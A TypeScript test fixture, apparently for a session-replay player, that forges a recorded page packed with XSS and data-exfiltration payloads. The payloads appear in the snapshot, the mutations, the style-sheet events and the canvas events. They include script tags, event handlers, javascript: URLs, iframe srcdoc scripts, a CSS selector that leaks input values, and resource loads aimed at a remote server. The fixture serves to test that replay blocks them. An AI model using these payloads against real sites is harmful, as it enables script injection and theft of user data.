/** One forged recording that tries everything: in the snapshot, in mutations, in style sheets. */
import type { ReplayEvent } from '@otel-replay/protocol';

interface Forged {
  tagName: string;
  attributes?: Record<string, unknown>;
  text?: string;
  isSVG?: boolean;
  children?: Forged[];
}

interface Built {
  id: number;
  childNodes?: Built[];
}

function flatten(node: Built, parentId: number): object[] {
  const { childNodes = [], ...own } = node;
  const alone = 'childNodes' in node ? { ...own, childNodes: [] } : own;
  return [
    { parentId, nextId: null, node: alone },
    ...childNodes.flatMap((child) => flatten(child, node.id)),
  ];
}

const RUN = 'window.top.pwned.push(1);parent.parent.pwned&&parent.parent.pwned.push(1)';

/** @param remote address of a server that must hear nothing */
export function hostileEvents(remote: string): ReplayEvent[] {
  const start = 1_772_442_000_000;
  let id = 100;
  const build = ({ tagName, attributes = {}, text, isSVG, children = [] }: Forged): object => ({
    type: 2,
    id: ++id,
    tagName,
    attributes,
    ...(isSVG === true ? { isSVG } : {}),
    childNodes: [
      ...(text === undefined
        ? []
        : [
            {
              type: 3,
              id: ++id,
              textContent: text,
              ...(tagName === 'style' ? { isStyle: true } : {}),
            },
          ]),
      ...children.map(build),
    ],
  });
  const attacks = (where: string): Forged[] => elements(`${remote}/${where}`);
  const snapshot = {
    type: 0,
    id: 1,
    childNodes: [
      { type: 1, id: 2, name: 'html', publicId: '', systemId: '' },
      {
        type: 2,
        id: 3,
        tagName: 'html',
        attributes: { manifest: `${remote}/manifest`, onclick: RUN },
        childNodes: [
          {
            type: 2,
            id: 4,
            tagName: 'head',
            attributes: {},
            childNodes: heads(`${remote}/head`).map(build),
          },
          {
            type: 2,
            id: 5,
            tagName: 'body',
            attributes: { background: `${remote}/body`, onload: RUN, onfocus: RUN },
            childNodes: [
              ...attacks('snapshot').map(build),
              { type: 2, id: 50, tagName: 'img', attributes: {}, childNodes: [] },
              { type: 2, id: 51, tagName: 'a', attributes: {}, childNodes: [] },
              { type: 2, id: 52, tagName: 'iframe', attributes: {}, childNodes: [] },
              { type: 2, id: 53, tagName: 'p', attributes: {}, childNodes: [] },
              {
                type: 2,
                id: 54,
                tagName: 'style',
                attributes: {},
                childNodes: [{ type: 3, id: 55, textContent: 'p{color:red}', isStyle: true }],
              },
            ],
          },
        ],
      },
    ],
  };
  const incremental = (offset: number, data: object): ReplayEvent => ({
    type: 3,
    timestamp: start + offset,
    data,
  });
  const mutation = (offset: number, change: object): ReplayEvent =>
    incremental(offset, { source: 0, adds: [], removes: [], texts: [], attributes: [], ...change });
  /** Mutations name each node on its own, parents first. */
  const add = (element: Forged): object[] => flatten(build(element) as Built, 5);
  return [
    { type: 4, timestamp: start, data: { href: `${remote}/page`, width: 900, height: 600 } },
    { type: 2, timestamp: start + 1, data: { node: snapshot, initialOffset: { top: 0, left: 0 } } },
    mutation(500, { adds: [...heads(`${remote}/late`), ...attacks('mutation')].flatMap(add) }),
    mutation(700, { attributes: hostileAttributes(remote) }),
    mutation(800, {
      texts: [{ id: 55, value: `@import "${remote}/text"; p{background:url(${remote}/textbg)}` }],
    }),
    incremental(900, {
      source: 8,
      id: 54,
      adds: [
        { rule: `p{background-image:url("${remote}/rule")}`, index: 0 },
        { rule: `@font-face{font-family:x;src:url(${remote}/rulefont)}`, index: 0 },
        { rule: `p{font-family:x;background:image-set("${remote}/set" 1x)}`, index: 0 },
      ],
    }),
    incremental(950, {
      source: 13,
      id: 54,
      index: [0],
      set: { property: 'background', value: `url(${remote}/declaration)` },
    }),
    incremental(1000, {
      source: 15,
      id: 1,
      styleIds: [1],
      styles: [{ styleId: 1, rules: [{ rule: `p{background:url(${remote}/adopted)}`, index: 0 }] }],
    }),
    incremental(1050, {
      source: 10,
      family: 'x',
      fontSource: `url(${remote}/font)`,
      buffer: false,
    }),
    incremental(1100, {
      source: 9,
      id: 50,
      type: 0,
      property: 'drawImage',
      args: [{ rr_type: 'Promise', args: [{ rr_type: 'Function', args: [RUN] }] }],
    }),
    incremental(1150, {
      source: 9,
      id: 50,
      type: 0,
      property: 'drawImage',
      args: [{ rr_type: 'EventSource', args: [`${remote}/canvas`] }],
    }),
    incremental(1200, { source: 2, type: 2, id: 51, x: 5, y: 5 }),
    incremental(1250, { source: 2, type: 5, id: 50 }),
    {
      type: 5,
      timestamp: start + 1300,
      data: { tag: 'session_replay.navigation', payload: { url: `javascript:${RUN}` } },
    },
    mutation(2000, { adds: add({ tagName: 'p', text: 'after all of it' }) }),
    incremental(3000, { source: 3, id: 1, x: 0, y: 10 }),
  ];
}

function heads(remote: string): Forged[] {
  return [
    { tagName: 'base', attributes: { href: `${remote}/base/` } },
    {
      tagName: 'meta',
      attributes: { 'http-equiv': 'refresh', content: `0;url=${remote}/refresh` },
    },
    { tagName: 'meta', attributes: { name: 'referrer', content: 'unsafe-url' } },
    ...[
      'stylesheet',
      'preload',
      'prefetch',
      'dns-prefetch',
      'preconnect',
      'modulepreload',
      'icon',
      'manifest',
    ].map((rel) => ({
      tagName: 'link',
      attributes: { rel, as: 'image', href: `${remote}/${rel}` },
    })),
    {
      tagName: 'style',
      text: `@import url(${remote}/import); body{background:url('${remote}/stylebg')} @font-face{font-family:x;src:url(${remote}/face)}`,
    },
    {
      tagName: 'style',
      attributes: {
        _cssText: `p{background:url(${remote}/csstext)} input[value^="a"]{background:url(${remote}/leak)}`,
      },
    },
    { tagName: 'script', text: RUN },
    { tagName: 'script', attributes: { src: `${remote}/script.js` } },
    { tagName: 'SCRIPT', text: RUN },
  ];
}

function elements(remote: string): Forged[] {
  return [
    {
      tagName: 'img',
      attributes: {
        src: `${remote}/img`,
        srcset: `${remote}/img1 1x, ${remote}/img2 2x`,
        onerror: RUN,
      },
    },
    { tagName: 'img', attributes: { src: '/logout?stolen' } },
    { tagName: 'img', attributes: { src: 'x', ONERROR: RUN } },
    {
      tagName: 'img',
      attributes: { rr_dataURL: `${remote}/dataurl`, 'xlink:href': `${remote}/xlink` },
    },
    { tagName: 'IMG', attributes: { SRC: `${remote}/upper` } },
    {
      tagName: 'picture',
      children: [
        { tagName: 'source', attributes: { srcset: `${remote}/source` } },
        { tagName: 'img', attributes: { src: `${remote}/pic` } },
      ],
    },
    { tagName: 'iframe', attributes: { src: `${remote}/iframe` } },
    { tagName: 'iframe', attributes: { src: `javascript:${RUN}` } },
    {
      tagName: 'iframe',
      attributes: { srcdoc: `<script>${RUN}</script><img src="${remote}/srcdoc">` },
    },
    { tagName: 'iframe', attributes: { src: '/sessions/stolen' } },
    { tagName: 'object', attributes: { data: `${remote}/object` } },
    { tagName: 'embed', attributes: { src: `${remote}/embed` } },
    {
      tagName: 'video',
      attributes: {
        src: `${remote}/video`,
        poster: `${remote}/poster`,
        autoplay: '',
        rr_mediaState: 'played',
      },
    },
    {
      tagName: 'audio',
      attributes: { src: `${remote}/audio`, autoplay: '', rr_mediaState: 'played' },
    },
    { tagName: 'canvas', attributes: { rr_dataURL: `${remote}/canvas` } },
    {
      tagName: 'input',
      attributes: { type: 'image', src: `${remote}/input`, formaction: `${remote}/formaction` },
    },
    {
      tagName: 'input',
      attributes: { type: 'PASSWORD', name: 'password', value: 'x', onfocus: RUN, autofocus: '' },
    },
    {
      tagName: 'form',
      attributes: { action: `${remote}/form`, onsubmit: RUN },
      children: [{ tagName: 'button', attributes: { type: 'submit' } }],
    },
    {
      tagName: 'a',
      attributes: { href: `java\tscript:${RUN}`, ping: `${remote}/ping` },
      text: 'a',
    },
    {
      tagName: 'div',
      attributes: {
        style: `background:url(${remote}/style);width:9px;height:9px`,
        onmouseover: RUN,
      },
      text: 'd',
    },
    {
      tagName: 'div',
      attributes: { style: `background:\\75 rl(${remote}/escape);width:9px;height:9px` },
      text: 'e',
    },
    { tagName: 'table', attributes: { background: `${remote}/table` } },
    {
      tagName: 'svg',
      isSVG: true,
      attributes: { onload: RUN },
      children: [
        {
          tagName: 'image',
          isSVG: true,
          attributes: {
            href: `${remote}/svgimage`,
            'xlink:href': `${remote}/svgxlink`,
            width: '9',
            height: '9',
          },
        },
        { tagName: 'use', isSVG: true, attributes: { href: `${remote}/use#x` } },
        { tagName: 'script', isSVG: true, text: RUN },
        {
          tagName: 'rect',
          isSVG: true,
          attributes: { fill: `url(${remote}/fill#x)`, width: '9', height: '9' },
        },
        {
          tagName: 'animate',
          isSVG: true,
          attributes: { onbegin: RUN, attributeName: 'x', dur: '1s' },
        },
      ],
    },
  ];
}

function hostileAttributes(remote: string): object[] {
  return [
    {
      id: 50,
      attributes: { src: `${remote}/late-src`, onerror: RUN, srcset: `${remote}/late-srcset` },
    },
    {
      id: 51,
      attributes: { href: `javascript:${RUN}`, onclick: RUN, ping: `${remote}/late-ping` },
    },
    { id: 52, attributes: { src: `${remote}/late-iframe`, srcdoc: `<script>${RUN}</script>` } },
    {
      id: 53,
      attributes: {
        style: { 'background-image': `url(${remote}/late-style)`, color: ['red', 'important'] },
      },
    },
  ];
}
